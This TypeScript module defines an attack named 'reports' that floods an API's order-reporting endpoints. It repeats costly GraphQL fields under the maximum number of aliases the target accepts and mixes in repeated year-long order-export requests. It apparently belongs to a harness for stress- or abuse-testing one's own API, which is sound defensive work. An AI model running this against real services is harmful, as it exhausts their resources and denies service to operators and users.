import type { Attack } from './attack.ts';
import { type BuildOperation, findMaxAliases } from './max-aliases.ts';
import { graphqlRequest, sendRepeatedly } from './send-repeatedly.ts';

export const reports: Attack = {
  id: 'reports',
  description: 'repeated requests for the outstanding liability, daily figures and exports of all orders',
  permissions: ['MANAGE_ORDERS'],
  async run(target) {
    const to = daysAgo(0);
    const from = daysAgo(365);
    const fields = [
      'outstandingLiability { salesPage { id } }',
      `dailyFigures(period: { from: "${from}", to: "${to}" }) { day }`,
    ];
    const documents = await Promise.all(
      fields.map(repeat).map(async (build) => build(await findMaxAliases(target, build)).query),
    );
    const requests = [
      ...documents.map((query) => graphqlRequest(query)),
      { method: 'GET', path: `/v2.1/reports/orders-export?start_date=${from}&end_date=${to}` },
    ];
    let next = 0;
    return sendRepeatedly(
      target,
      () => requests[next++ % requests.length] ?? graphqlRequest(documents[0] ?? ''),
    );
  },
};

const repeat =
  (field: string): BuildOperation =>
  (aliases) => ({ query: `{ ${aliases.map((alias) => `${alias}: ${field}`).join(' ')} }` });

function daysAgo(days: number): string {
  return new Date(Date.now() - days * 86_400_000).toISOString().slice(0, 10);
}
